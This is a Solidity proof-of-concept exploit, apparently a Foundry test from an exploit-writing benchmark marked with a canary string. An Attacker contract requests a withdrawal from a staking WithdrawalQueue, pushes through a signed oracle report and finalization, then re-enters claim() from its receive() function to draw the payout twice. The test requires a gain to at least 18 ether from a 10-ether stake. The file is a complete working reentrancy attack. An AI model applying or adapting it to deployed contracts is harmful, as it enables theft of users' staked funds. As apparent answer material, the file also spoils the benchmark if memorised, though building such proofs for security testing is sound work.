// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

// assay-canary-3f1c9a52-6be0-4d77-8a14-c95e20b7d6fa
import "../Base.sol";

contract Attacker {
    WithdrawalQueue private queue;
    uint256 private id;
    bool private within;

    function ask(StakeToken token, WithdrawalQueue queue_) external {
        queue = queue_;
        token.approve(address(queue), type(uint256).max);
        id = queue.request(10 ether, address(this));
    }

    function run(
        StakePool pool,
        ReportOracle oracle,
        IReports.Report calldata report,
        bytes[] calldata signatures
    ) external {
        oracle.submit(report, signatures);
        pool.finalize(1);
        queue.claim(id, queue.findHint(id), address(this));
    }

    receive() external payable {
        if (within) return;
        within = true;
        try queue.claim(id, queue.findHint(id), address(this)) {} catch {}
    }
}

contract Proof is Base {
    Attacker private other;
    bytes[] private signatures;

    function _start() internal override {
        other = new Attacker();
        token.transfer(address(other), 10 ether);
        signatures = _signed(_report(3, 0, 0));
    }

    function exploit() public {
        other.ask(token, queue);
        vm.warp(block.timestamp + 1 days);
        other.run(pool, oracle, _report(3, 0, 0), signatures);
    }

    function test_Exploit() public {
        exploit();
        require(address(other).balance >= 18 ether, "no gain");
    }

    function target() public view override returns (address) {
        return address(queue);
    }

    function attacker() public view returns (address) {
        return address(other);
    }
}
